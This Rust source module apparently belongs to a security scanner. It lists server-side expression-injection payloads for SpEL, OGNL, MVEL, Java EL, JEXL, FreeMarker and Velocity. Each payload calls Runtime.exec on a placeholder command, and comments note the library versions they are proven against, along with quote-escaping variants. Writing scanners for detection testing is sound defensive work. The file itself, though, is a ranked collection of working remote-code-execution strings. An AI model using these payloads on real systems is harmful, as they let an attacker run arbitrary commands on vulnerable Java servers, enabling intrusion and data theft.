//! Payloads for expression languages of the JVM.
//!
//! Each starts the canary with `Runtime.exec`, which needs no shell. Proven with Spring 5.3.20,
//! OGNL 3.1.12, MVEL 2.4.14, Tomcat's EL 9.0.65, JEXL 3.2.1, FreeMarker 2.3.31 and Velocity 2.3;
//! later releases of OGNL and JEXL refuse `Runtime` by default.

use super::{Effect, Payload, PayloadClass};

const fn java(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::JavaExpression, id, template, Effect::Command, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    java(
        "java-expression-reflection",
        "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{C}')",
        "reflection from a string literal is the same text in SpEL, MVEL, EL and JEXL",
    ),
    java(
        "java-expression-el-field",
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{C}')}",
        "EL in text, as in messages of bean validation",
    ),
    java(
        "java-expression-spel-field",
        "#{T(java.lang.Runtime).getRuntime().exec('{C}')}",
        "SpEL in text, as in annotations and messages of Spring",
    ),
    java(
        "java-expression-spel-single-quotes",
        "'+T(java.lang.Runtime).getRuntime().exec('{C}')+'",
        "leaves single quotes of SpEL",
    ),
    java("java-expression-spel", "T(java.lang.Runtime).getRuntime().exec('{C}')", "T() names a type in SpEL"),
    java(
        "java-expression-ognl",
        "@java.lang.Runtime@getRuntime().exec('{C}')",
        "@type@method calls a static method in OGNL",
    ),
    java(
        "java-expression-ognl-single-quotes",
        "'+@java.lang.Runtime@getRuntime().exec('{C}')+'",
        "leaves single quotes of OGNL",
    ),
    java(
        "java-expression-single-quotes",
        "'+''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{C}')+'",
        "leaves single quotes of MVEL, EL and JEXL",
    ),
    java(
        "java-expression-double-quotes",
        "\"+\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"{C}\")+\"",
        "leaves double quotes of MVEL, EL and JEXL",
    ),
    java(
        "java-expression-mvel",
        "java.lang.Runtime.getRuntime().exec('{C}')",
        "the full name of a class is code in MVEL, Groovy, Nashorn and Rhino",
    ),
    java(
        "java-expression-freemarker",
        "${\"freemarker.template.utility.Execute\"?new()(\"{C}\")}",
        "?new makes an object of any template model class of FreeMarker",
    ),
    java(
        "java-expression-velocity",
        "#set($x='')$x.class.forName('java.lang.Runtime').getRuntime().exec('{C}')",
        "Velocity calls static methods on a Class object",
    ),
];
